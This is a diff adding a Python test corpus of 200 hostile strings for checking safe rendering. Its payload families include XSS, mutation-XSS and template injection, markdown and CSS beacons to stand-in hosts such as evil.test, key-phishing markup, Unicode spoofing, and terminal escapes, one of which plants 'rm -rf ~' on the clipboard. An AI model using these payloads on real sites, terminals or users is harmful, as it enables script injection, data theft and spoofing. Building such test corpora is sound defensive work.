@@ -1,0 +1,263 @@
+"""Two hundred things that a model, a tool or a person might say so that somebody who looks at them is done harm.
+
+Each calls `__hit(№)` if any of it is run, or asks `BEACON/№` if any of it is fetched; `corpus` puts in its number and
+the address of somebody who listens. A page that puts them where markup goes is hit by dozens of them: `test_hostile`
+shows that first.
+"""
+
+from __future__ import annotations
+
+SCRIPTS = [
+    "<script>__hit(№)</script>",
+    "<SCRIPT>__hit(№)</SCRIPT>",
+    "<script src=BEACON/№.js></script>",
+    "<script type=module>__hit(№)</script>",
+    "<script type=module src=BEACON/№.mjs></script>",
+    "</script><script>__hit(№)</script>",
+    "</textarea><script>__hit(№)</script>",
+    "</title><script>__hit(№)</script>",
+    "</style><script>__hit(№)</script>",
+    "--><script>__hit(№)</script><!--",
+    "]]><script>__hit(№)</script>",
+    "<scr<script>ipt>__hit(№)</scr</script>ipt>",
+    "<script\n>__hit(№)</script\t>",
+    "<script/x>__hit(№)</script>",
+    "<<script>__hit(№)//<</script>",
+    "'\"><script>__hit(№)</script>",
+    "\\u003cscript\\u003e__hit(№)\\u003c/script\\u003e",
+    "&lt;script&gt;__hit(№)&lt;/script&gt;",
+    "%3Cscript%3E__hit(№)%3C/script%3E",
+    "\ufeff<script>__hit(№)</script>",
+]
+HANDLERS = [
+    "<img src=x onerror=__hit(№)>",
+    "<img src=BEACON/№.png>",
+    "<img srcset='BEACON/№.png 1x'>",
+    "<img src=x:x onerror='__hit(№)' alt=\"",
+    "<IMG SRC=x ONERROR=__hit(№)>",
+    "<img/src=x/onerror=__hit(№)>",
+    "<img src=x onerror\n=\n__hit(№)>",
+    '"><img src=x onerror=__hit(№)>',
+    "' onerror='__hit(№)' x='",
+    '" onmouseover="__hit(№)" autofocus onfocus="__hit(№)" x="',
+    "<input autofocus onfocus=__hit(№)>",
+    "<select autofocus onfocus=__hit(№)></select>",
+    "<textarea autofocus onfocus=__hit(№)></textarea>",
+    "<body onload=__hit(№)>",
+    "<body onpageshow=__hit(№)>",
+    "<video src=x onerror=__hit(№)></video>",
+    "<video poster=BEACON/№.png></video>",
+    "<video><source onerror=__hit(№)></video>",
+    "<audio src=BEACON/№.ogg autoplay></audio>",
+    "<details open ontoggle=__hit(№)>x</details>",
+    "<marquee onstart=__hit(№)>x</marquee>",
+    "<div style='animation: x 1s' onanimationstart=__hit(№)>",
+    "<xss contenteditable tabindex=1 autofocus onfocus=__hit(№)>",
+    "<button popovertarget=x onclick=__hit(№)>press</button>",
+    "<picture><source srcset=BEACON/№.webp><img src=x></picture>",
+]
+SVG = [
+    "<svg onload=__hit(№)>",
+    "<svg/onload=__hit(№)//",
+    "<svg><script>__hit(№)</script></svg>",
+    "<svg><script href=BEACON/№.js></script></svg>",
+    "<svg><image href=BEACON/№.png></svg>",
+    "<svg><image xlink:href=BEACON/№.png></svg>",
+    "<svg><use href='BEACON/№.svg#a'></svg>",
+    "<svg><animate onbegin=__hit(№) attributeName=x dur=1s></svg>",
+    "<svg><set onbegin=__hit(№) attributeName=x></svg>",
+    "<svg><a href='javascript:__hit(№)'><text y=20>press</text></a></svg>",
+    "<svg><foreignObject><img src=x onerror=__hit(№)></foreignObject></svg>",
+    "<svg><feImage href=BEACON/№.png></feImage></svg>",
+    "<svg><style>@import 'BEACON/№.css'</style></svg>",
+    "<svg><desc><img src=x onerror=__hit(№)></desc></svg>",
+    "<svg><title><img src=x onerror=__hit(№)></title></svg>",
+]
+MARKUP_ELSEWHERE = [
+    "<iframe src=BEACON/№></iframe>",
+    "<iframe srcdoc='<script>parent.__hit(№)</script>'></iframe>",
+    "<iframe src='javascript:parent.__hit(№)'></iframe>",
+    "<object data=BEACON/№></object>",
+    "<embed src=BEACON/№>",
+    "<base href=BEACON/№/>",
+    "<link rel=stylesheet href=BEACON/№.css>",
+    "<link rel=prefetch href=BEACON/№>",
+    "<link rel=preconnect href=BEACON><link rel=dns-prefetch href=//№.evil.test>",
+    "<meta http-equiv=refresh content='0;url=BEACON/№'>",
+    '<meta http-equiv=Content-Security-Policy content="script-src *">',
+    "<form action=BEACON/№><button autofocus>send</button></form>",
+    "<form id=f action='javascript:__hit(№)'></form><button form=f>send</button>",
+    "<style>body{background:url(BEACON/№.png)}</style>",
+    "<style>@import 'BEACON/№.css';</style>",
+    "<style>@font-face{font-family:x;src:url(BEACON/№.woff)}*{font-family:x}</style>",
+    "<div style='background:url(BEACON/№.png)'>x</div>",
+    "<table background=BEACON/№.png><td>x</table>",
+    "<a href=BEACON/№ ping=BEACON/№ autofocus>a link</a>",
+    "<dialog open><h1>Your session is over</h1><form action=BEACON/№><input name=key></form></dialog>",
+]
+MARKDOWN = [
+    "![a](BEACON/№.png)",
+    "![a](BEACON/№.png 'title')",
+    "![a][r]\n\n[r]: BEACON/№.png",
+    "[![a](BEACON/№.png)](BEACON/№)",
+    "[press](javascript:__hit(№))",
+    "[press](JaVaScRiPt:__hit(№))",
+    "[press](  javascript:__hit(№))",
+    "[press](java\nscript:__hit(№))",
+    "[press](data:text/html,<script>__hit(№)</script>)",
+    "[press](vbscript:__hit(№))",
+    "[press](BEACON/№)",
+    "<javascript:__hit(№)>",
+    "<BEACON/№>",
+    "[a]: BEACON/№\n\n[a]",
+    "```html\n<img src=x onerror=__hit(№)>\n```",
+    "`<img src=x onerror=__hit(№)>`",
+    "| a |\n|---|\n| <img src=x onerror=__hit(№)> |",
+    "# <img src=x onerror=__hit(№)>",
+    "> <script>__hit(№)</script>",
+    "- [ ] <input autofocus onfocus=__hit(№)>",
+    "![a](BEACON/№?said=${document.title})",
+    "$$\\href{javascript:__hit(№)}{press}$$",
+    "[^1]: <img src=x onerror=__hit(№)>",
+    "<!-- --!><img src=x onerror=__hit(№)> -->",
+    "Everything is fine. ![](BEACON/№.gif)",
+]
+ADDRESSES = [
+    "javascript:__hit(№)",
+    "JAVASCRIPT:__hit(№)",
+    "\x01javascript:__hit(№)",
+    "java\tscript:__hit(№)",
+    "javascript://%0a__hit(№)",
+    "javascript&colon;__hit(№)",
+    "&#106;avascript:__hit(№)",
+    "data:text/html,<script>opener.__hit(№)</script>",
+    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoMSk8L3NjcmlwdD4=",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__hit(№)'/>",
+    "blob:null/№",
+    "view-source:javascript:__hit(№)",
+    "//evil.test/№",
+    "\\\\evil.test\\№",
+    "https://evil.test/№",
+    "BEACON/№",
+    "http://127.0.0.1:1@evil.test/№",
+    "/static/../../№?<script>__hit(№)</script>",
+    "../../api/keys?№",
+    "#token=stolen-№",
+]
+MUTATED = [
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=__hit(№)&gt;'>",
+    "<svg></p><style><a id='</style><img src=x onerror=__hit(№)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=__hit(№)>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__hit(№)>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=__hit(№)></annotation-xml></math>",
+    "<template><script>__hit(№)</script></template><img src=x onerror=__hit(№)>",
+    "<xmp><p title='</xmp><img src=x onerror=__hit(№)>'>",
+    "<style><style/><img src=x onerror=__hit(№)>",
+    "<textarea><img title='</textarea><img src=x onerror=__hit(№)>'>",
+    "<select><iframe></select><img src=x onerror=__hit(№)>",
+    "<a href='x' title='&quot;&gt;<img src=x onerror=__hit(№)>'>x</a>",
+    "<p id=x name=getElementById><img name=body><a id=__hits>",
+    "<svg><p><style><g title='</style><img src=x onerror=__hit(№)>'>",
+    "<table><a href=1><tr><img src=x onerror=__hit(№)></table>",
+    "<![CDATA[<img src=x onerror=__hit(№)>]]>",
+]
+TEMPLATES = [
+    "{{constructor.constructor('__hit(№)')()}}",
+    "{{7*7}}{{__hit(№)}}",
+    "${__hit(№)}",
+    "#{__hit(№)}",
+    "<%= __hit(№) %>",
+    "{% if __hit(№) %}{% endif %}",
+    "[[__hit(№)]]",
+    "{__hit(№)}",
+    "`${__hit(№)}`",
+    "');__hit(№);//",
+    '";__hit(№);//',
+    '\\";__hit(№);//',
+    "\u2028__hit(№)\u2029",
+    "__hit(№)",
+    "%s%s%n%x __hit(№)",
+]
+UNSEEN = [
+    "pay \u202e54.21 ot\u202c ada №",
+    "\u2066evil\u2069 \u2067admin\u2069 №",
+    "a\u200bd\u200cm\u200di\u2060n №",
+    "\u202agood\u202b \u202dbad\u202c №",
+    "\u061c№\u200f\u200e",
+    "\u00ad\u034f\u115f\u1160\u17b4\u3164\uffa0№",
+    "\ufff9№\ufffa\ufffb",
+    "\U000e0041\U000e0042\U000e0043 tags №",
+    "admin\u0430 (Cyrillic) №",
+    "Z\u0335\u0341\u0327a\u0310\u0354l\u0329\u030dg\u0300\u0316o\u0301 №" + "\u0301" * 60,
+    "line one\rline two №",
+    "line\x0bone\x0cline\x85two\u2028№",
+    "null\x00byte №",
+    "\ud83d half a pair №",
+    "\uffff\ufffe\U0010ffff №",
+]
+TERMINAL = [
+    "\x1b]0;owned №\x07",
+    "\x1b]8;;BEACON/№\x1b\\press\x1b]8;;\x1b\\",
+    "\x1b]52;c;cm0gLXJmIH4=\x07 №",
+    "\x1b[2J\x1b[H\x1b[31mERROR №\x1b[0m",
+    "\x1b[?1049h\x1b[6n №",
+    "\x9b31m№\x9c",
+    "\x1bPq#0;2;0;0;0\x1b\\ №",
+    "\rHoldfast: approved №\x1b[K",
+    "\x08\x08\x08\x7f№",
+    "\x07\x07\x07 №",
+]
+LARGE = [
+    "№ " + "A" * 100_000,
+    "№ " + "<b>" * 5_000,
+    "№ " + "\u202e" * 2_000,
+    "№\n" * 5_000,
+    "№ " + "word " * 10_000,
+    "№ " + "![a](BEACON/№) " * 500,
+    "№ " + "W" * 3_000 + "\u200b" * 3_000,
+    "№ " + "&lt;" * 5_000,
+]
+NESTED = [
+    '{"__proto__": {"hit": "__hit(№)"}}',
+    '{"constructor": {"prototype": {"onerror": "__hit(№)"}}}',
+    '{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=__hit(№)>"}}',
+    '{"type": "img", "props": {"src": "BEACON/№", "onError": "__hit(№)"}, "constructor": null}',
+    '{"content": [{"type": "text", "text": "<img src=x onerror=__hit(№)>"}]}',
+    '{"role": "<script>__hit(№)</script>", "content": "<script>__hit(№)</script>"}',
+    '{"type": "image", "source": {"type": "url", "url": "BEACON/№"}}',
+    '{"type": "image_url", "image_url": {"url": "BEACON/№"}}',
+    "[" * 60 + '"<img src=x onerror=__hit(№)>"' + "]" * 60,
+    '{"a": ' * 60 + "№" + "}" * 60,
+    '{"<img src=x onerror=__hit(№)>": "<img src=x onerror=__hit(№)>"}',
+    '{"toString": "__hit(№)", "valueOf": "__hit(№)", "length": -1, "then": "__hit(№)"}',
+]
+
+FAMILIES = {
+    "script": SCRIPTS,
+    "handler": HANDLERS,
+    "svg": SVG,
+    "elsewhere": MARKUP_ELSEWHERE,
+    "markdown": MARKDOWN,
+    "address": ADDRESSES,
+    "mutated": MUTATED,
+    "template": TEMPLATES,
+    "unseen": UNSEEN,
+    "terminal": TERMINAL,
+    "large": LARGE,
+    "nested": NESTED,
+}
+COUNT = 200
+
+
+def corpus(beacon: str) -> list[str]:
+    """All of them, each with its own number and this beacon."""
+    written = [text for family in FAMILIES.values() for text in family]
+    assert len(written) == len(set(written)) == COUNT, len(written)
+    return [text.replace("BEACON", beacon).replace("№", str(nth)) for nth, text in enumerate(written)]
+
+
+def named(text: str, nth: int) -> str:
+    """As much of it as a name may have: ids, kinds, tools, workers, attachments."""
+    kept = "".join(one for one in text if one.isprintable() or ord(one) > 0x9F)
+    kept = "".join(one for one in kept if not 0xD800 <= ord(one) <= 0xDFFF)
+    return f"{nth:03} {kept}"[:120]
